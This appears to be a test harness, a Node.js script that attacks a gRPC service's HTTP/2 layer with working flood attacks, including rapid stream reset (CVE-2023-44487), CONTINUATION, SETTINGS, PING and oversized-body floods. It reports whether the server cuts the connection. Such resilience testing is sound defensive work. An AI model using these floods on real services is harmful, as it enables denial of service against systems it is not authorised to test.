// A hostile HTTP/2 peer behind a valid certificate, after RFC 9113, with no
// HTTP/2 library that would behave: it never acknowledges settings.
//   node flood.mjs MODE HOST:PORT IDENTITY.PEM LOCAL_ADDRESS
// Prints as JSON whether it was cut, after how many bytes and milliseconds.
import fs from 'node:fs';
import tls from 'node:tls';

const [mode, address, identity, localAddress] = process.argv.slice(2);
const [host, port] = address.split(':');
const kMostBytes = 64 << 20;
const kLongest = 10000;

const DATA = 0, HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, PING = 6, CONTINUATION = 9;
const END_HEADERS = 4;

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

// Literals without indexing (RFC 7541, 6.2.2); names 1, 4 of the static table.
function text(value) {
  return Buffer.concat([Buffer.from([value.length]), Buffer.from(value)]);
}
const headers = Buffer.concat([
  Buffer.from([0x83, 0x87]),  // :method POST, :scheme https
  Buffer.from([0x04]), text('/comity.federation.v1.FederationService/Handshake'),
  Buffer.from([0x01]), text('node'),
  Buffer.from([0x0f, 0x10]), text('application/grpc'),
  Buffer.from([0x00]), text('te'), text('trailers'),
]);

let stream = -1;
// Some 16 KiB of the flood.
const floods = {
  // CVE-2023-44487: streams that are reset as soon as they are opened.
  reset() {
    const frames = [];
    for (let i = 0; i < 120; ++i) {
      stream += 2;
      frames.push(frame(HEADERS, END_HEADERS, stream, headers),
          frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8])));
    }
    return Buffer.concat(frames);
  },
  // CVE-2024-27316 and its like: headers that never end.
  continuation() {
    if (stream < 0) {
      stream = 1;
      return frame(HEADERS, 0, stream, headers);
    }
    return frame(CONTINUATION, 0, stream,
        Buffer.concat([Buffer.from([0x00]), text('x'), Buffer.from([0x7f, 0xff, 0x7c]),
          Buffer.alloc(16000, 'a')]));
  },
  settings: () => Buffer.concat(Array(1800).fill(frame(SETTINGS, 0, 0))),
  ping: () => Buffer.concat(Array(960).fill(frame(PING, 0, 0, Buffer.alloc(8)))),
  // A message that announces 60 MB and comes.
  body() {
    if (stream < 0) {
      stream = 1;
      const length = Buffer.from([0, 0x03, 0x93, 0x87, 0x00]);
      return Buffer.concat([frame(HEADERS, END_HEADERS, stream, headers),
        frame(DATA, 0, stream, length)]);
    }
    return frame(DATA, 0, stream, Buffer.alloc(16000));
  },
};

const pem = fs.readFileSync(identity);
let sent = 0;
let began = 0;
let over = false;
const socket = tls.connect({
  host, port: Number(port), localAddress, cert: pem, key: pem,
  rejectUnauthorized: false, ALPNProtocols: ['h2'], checkServerIdentity: () => undefined,
});
function end(cut, why) {
  if (over) return;
  over = true;
  console.log(JSON.stringify({mode, cut, why, bytes: sent,
    milliseconds: began === 0 ? 0 : Math.round(performance.now() - began)}));
  socket.destroy();
  process.exit(0);
}
socket.on('error', (error) => end(true, error.code ?? error.message));
socket.on('close', () => end(true, 'closed'));
socket.on('data', () => {});
socket.on('secureConnect', () => {
  socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  socket.write(frame(SETTINGS, 0, 0));
  began = performance.now();
  const more = () => {
    while (!over) {
      if (sent > kMostBytes) return end(false, 'enough');
      const bytes = floods[mode]();
      sent += bytes.length;
      if (!socket.write(bytes)) return socket.once('drain', more);
    }
  };
  more();
});
setTimeout(() => end(false, 'nobody cut it'), kLongest);
